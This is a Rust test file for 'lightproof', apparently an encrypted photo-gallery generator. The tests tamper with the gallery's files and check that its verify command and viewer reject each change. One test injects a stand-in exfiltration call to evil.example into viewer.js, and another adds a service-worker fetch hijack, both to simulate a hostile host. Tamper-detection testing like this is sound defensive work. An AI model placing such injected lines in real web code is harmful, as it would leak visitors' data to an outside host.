//! A host that flips, truncates, swaps, deletes or replaces files: `verify`
//! names each damaged item and exits non-zero; the viewer core (the same
//! `format` code the wasm runs) refuses every tampered blob.

use std::fs;
use std::path::Path;

use lightproof::format::header::Header;
use lightproof::format::manifest::Manifest;
use lightproof::format::{blob_path, vault, BlobKind, FormatError, HEADER_FILE};

use crate::util::*;

fn open_manifest(site: &Path) -> (Header, Manifest, String) {
    let header = Header::parse(&fs::read(site.join(HEADER_FILE)).unwrap()).unwrap();
    let slot = vault::unlock_with_password(&header, PASSWORD.as_bytes()).unwrap();
    let manifest_file = blob_path(&slot.manifest_id);
    let manifest = vault::open_manifest(
        &header,
        &slot,
        &fs::read(site.join(&manifest_file)).unwrap(),
    )
    .unwrap();
    (header, manifest, manifest_file)
}

fn flip_byte(path: &Path, position_from_end: usize) {
    let mut bytes = fs::read(path).unwrap();
    let at = bytes.len() - position_from_end;
    bytes[at] ^= 0x40;
    fs::write(path, bytes).unwrap();
}

fn verify(site: &Path) -> (Option<i32>, String) {
    let output = run(&mut lightproof(&["verify", path_str(site)]));
    (output.status.code(), stderr(&output))
}

/// The viewer core's verdict on photo `index`'s rendition in `site`.
fn viewer_core_opens(site: &Path, index: usize, kind: BlobKind) -> Result<Vec<u8>, FormatError> {
    let (header, manifest, _) = open_manifest(sample_site());
    let (_, photo) = manifest.photos().nth(index).unwrap();
    let rendition = if kind == BlobKind::Thumbnail {
        &photo.thumb
    } else {
        &photo.preview
    };
    let bytes = fs::read(site.join(rendition.blob.path())).map_err(|_| FormatError::Damaged)?;
    vault::open_pinned_blob(&header.gallery_id, &rendition.blob, kind, &bytes)
}

#[test]
fn an_untouched_gallery_opens_in_the_viewer_core() {
    let jpeg = viewer_core_opens(sample_site(), 0, BlobKind::Preview).unwrap();
    assert!(jpeg.starts_with(b"\xff\xd8\xff"));
    assert!(
        !jpeg.windows(6).any(|w| w == b"Exif\0\0"),
        "renditions carry no EXIF"
    );
}

#[test]
fn a_flipped_byte_in_a_rendition_is_named() {
    let (_dir, site) = copy_of_sample_site();
    let (_, manifest, _) = open_manifest(&site);
    let (album, photo) = manifest.photos().nth(2).unwrap();
    flip_byte(&site.join(photo.thumb.blob.path()), 100);
    let (code, text) = verify(&site);
    assert_eq!(code, Some(1));
    assert!(
        text.contains(&format!(
            "the thumbnail of '{}' in album '{}' is damaged",
            photo.file, album.name
        )),
        "{text}"
    );
    assert!(text.contains(&photo.thumb.blob.path()));
    assert_eq!(
        viewer_core_opens(&site, 2, BlobKind::Thumbnail).unwrap_err(),
        FormatError::Damaged
    );
    assert!(
        viewer_core_opens(&site, 2, BlobKind::Preview).is_ok(),
        "other blobs still open"
    );
}

#[test]
fn truncated_missing_and_plaintext_blobs_are_named() {
    let (_dir, site) = copy_of_sample_site();
    let (_, manifest, _) = open_manifest(&site);
    let photos: Vec<_> = manifest.photos().collect();
    let truncated = site.join(photos[0].1.preview.blob.path());
    let bytes = fs::read(&truncated).unwrap();
    fs::write(&truncated, &bytes[..bytes.len() - 16_400]).unwrap(); // one whole chunk off
    fs::remove_file(site.join(photos[1].1.preview.blob.path())).unwrap();
    fs::copy(
        sample_shoot().join("IMG_0101.jpg"),
        site.join(photos[3].1.thumb.blob.path()),
    )
    .unwrap();
    let (code, text) = verify(&site);
    assert_eq!(code, Some(1));
    assert!(
        text.contains(&format!("the preview of '{}'", photos[0].1.file))
            && text.contains("damaged"),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "the preview of '{}' in album '{}' is missing",
            photos[1].1.file, photos[1].0.name
        )),
        "{text}"
    );
    assert!(
        text.contains(&format!("the thumbnail of '{}'", photos[3].1.file)),
        "{text}"
    );
    assert!(text.contains("3 problems"), "{text}");
    assert_eq!(
        viewer_core_opens(&site, 0, BlobKind::Preview).unwrap_err(),
        FormatError::Damaged
    );
    assert_eq!(
        viewer_core_opens(&site, 1, BlobKind::Preview).unwrap_err(),
        FormatError::Damaged
    );
    assert_eq!(
        viewer_core_opens(&site, 3, BlobKind::Thumbnail).unwrap_err(),
        FormatError::Damaged
    );
}

#[test]
fn two_swapped_blobs_are_both_refused_even_without_the_hash_pin() {
    let (_dir, site) = copy_of_sample_site();
    let (header, manifest, _) = open_manifest(&site);
    let photos: Vec<_> = manifest.photos().collect();
    let (a, b) = (
        site.join(photos[4].1.thumb.blob.path()),
        site.join(photos[5].1.thumb.blob.path()),
    );
    let (bytes_a, bytes_b) = (fs::read(&a).unwrap(), fs::read(&b).unwrap());
    fs::write(&a, &bytes_b).unwrap();
    fs::write(&b, &bytes_a).unwrap();
    let (code, text) = verify(&site);
    assert_eq!(code, Some(1));
    assert!(text.contains("2 problems"), "{text}");
    // The context binding alone (blob id in the key derivation) refuses it.
    let thumb_a = &photos[4].1.thumb.blob;
    let id_a = thumb_a.id_bytes().unwrap();
    let opened = vault::open_blob(
        &header.gallery_id,
        &id_a,
        BlobKind::Thumbnail,
        &thumb_a.key,
        &bytes_b,
    );
    assert_eq!(opened.unwrap_err(), FormatError::Damaged);
    // And a thumbnail is never accepted as a preview.
    let opened = vault::open_blob(
        &header.gallery_id,
        &id_a,
        BlobKind::Preview,
        &thumb_a.key,
        &bytes_a,
    );
    assert_eq!(opened.unwrap_err(), FormatError::Damaged);
}

#[test]
fn a_damaged_manifest_stops_verify_with_a_clear_message() {
    let (_dir, site) = copy_of_sample_site();
    let (_, _, manifest_file) = open_manifest(&site);
    flip_byte(&site.join(&manifest_file), 1);
    let (code, text) = verify(&site);
    assert_eq!(code, Some(2));
    assert!(
        text.contains("manifest") && text.contains("damaged") && text.contains(&manifest_file),
        "{text}"
    );
    fs::remove_file(site.join(&manifest_file)).unwrap();
    let (code, text) = verify(&site);
    assert_eq!(code, Some(2));
    assert!(
        text.contains("manifest") && text.contains("missing"),
        "{text}"
    );
}

#[test]
fn a_damaged_header_stops_verify_with_a_clear_message() {
    let (_dir, site) = copy_of_sample_site();
    let header = site.join(HEADER_FILE);
    let good = fs::read(&header).unwrap();
    let mut salt_flipped = good.clone();
    salt_flipped[40] ^= 1; // inside the KDF salt
    fs::write(&header, &salt_flipped).unwrap();
    let (code, text) = verify(&site);
    assert_eq!(code, Some(2));
    assert!(text.contains("password does not open"), "{text}");
    let mut magic_flipped = good.clone();
    magic_flipped[0] ^= 1;
    fs::write(&header, &magic_flipped).unwrap();
    let (code, text) = verify(&site);
    assert_eq!(code, Some(2));
    assert!(
        text.contains("header") && text.contains("damaged"),
        "{text}"
    );
    fs::write(&header, &good[..good.len() - 1]).unwrap();
    assert_eq!(verify(&site).0, Some(2));
    fs::remove_file(&header).unwrap();
    let (code, text) = verify(&site);
    assert_eq!(code, Some(2));
    assert!(
        text.contains("gallery.bin") && text.contains("missing"),
        "{text}"
    );
}

#[test]
fn every_rendition_is_metadata_free_and_upright() {
    let (header, manifest, _) = open_manifest(sample_site());
    for (_, photo) in manifest.photos() {
        for (rendition, kind) in [
            (&photo.thumb, BlobKind::Thumbnail),
            (&photo.preview, BlobKind::Preview),
        ] {
            let bytes = fs::read(sample_site().join(rendition.blob.path())).unwrap();
            let jpeg =
                vault::open_pinned_blob(&header.gallery_id, &rendition.blob, kind, &bytes).unwrap();
            assert!(jpeg.starts_with(b"\xff\xd8\xff"), "{}", photo.file);
            for marker in [
                &b"Exif\0\0"[..],
                b"GPS",
                b"http://ns.adobe.com/xap",
                b"ICC_PROFILE",
            ] {
                assert!(
                    !jpeg.windows(marker.len()).any(|w| w == marker),
                    "{} carries {marker:?}",
                    photo.file
                );
            }
            let decoded = image::load_from_memory(&jpeg).unwrap();
            assert_eq!(
                (decoded.width(), decoded.height()),
                (rendition.width, rendition.height)
            );
        }
    }
    // The sample's EXIF-rotated photos (orientations 6 and 8) come out as portraits.
    for name in ["IMG_0201.jpg", "IMG_0202.jpg"] {
        let (_, photo) = manifest.photos().find(|(_, p)| p.file == name).unwrap();
        assert!(
            photo.height > photo.width && photo.preview.height > photo.preview.width,
            "{name} is upright"
        );
    }
}

#[test]
fn a_changed_or_missing_viewer_file_is_named() {
    let (_dir, site) = copy_of_sample_site();
    let script = fs::read_to_string(site.join("viewer.js")).unwrap();
    fs::write(
        site.join("viewer.js"),
        script.replace(
            "'use strict';",
            "'use strict'; fetch('https://evil.example/?p=');",
        ),
    )
    .unwrap();
    fs::remove_file(site.join("style.css")).unwrap();
    let (code, text) = verify(&site);
    assert_eq!(code, Some(1), "{text}");
    assert!(
        text.contains("the viewer differs from the one lightproof")
            && text.contains("(file 'viewer.js')"),
        "{text}"
    );
    assert!(
        text.contains("the viewer is missing (file 'style.css')"),
        "{text}"
    );
    assert!(text.contains("2 problems"), "{text}");
}

/// The download worker is a service worker: once a browser has registered
/// it, it runs for that origin even after the page is closed, so a host
/// that changed it would keep code in the client's browser.
#[test]
fn a_changed_or_missing_download_worker_is_named() {
    let (_dir, site) = copy_of_sample_site();
    let worker = site.join("download-worker.js");
    let script = fs::read_to_string(&worker).unwrap();
    assert!(script.contains("self.addEventListener('fetch'"));
    fs::write(
        &worker,
        script.replace(
            "'use strict';",
            "'use strict'; self.addEventListener('fetch', (e) => e.respondWith(fetch(e.request)));",
        ),
    )
    .unwrap();
    let (code, text) = verify(&site);
    assert_eq!(code, Some(1), "{text}");
    assert!(
        text.contains("the viewer differs from the one lightproof")
            && text.contains("(file 'download-worker.js')"),
        "{text}"
    );
    assert!(text.contains("1 problem"), "{text}");

    fs::remove_file(&worker).unwrap();
    let (code, text) = verify(&site);
    assert_eq!(code, Some(1), "{text}");
    assert!(
        text.contains("the viewer is missing (file 'download-worker.js')"),
        "{text}"
    );
}
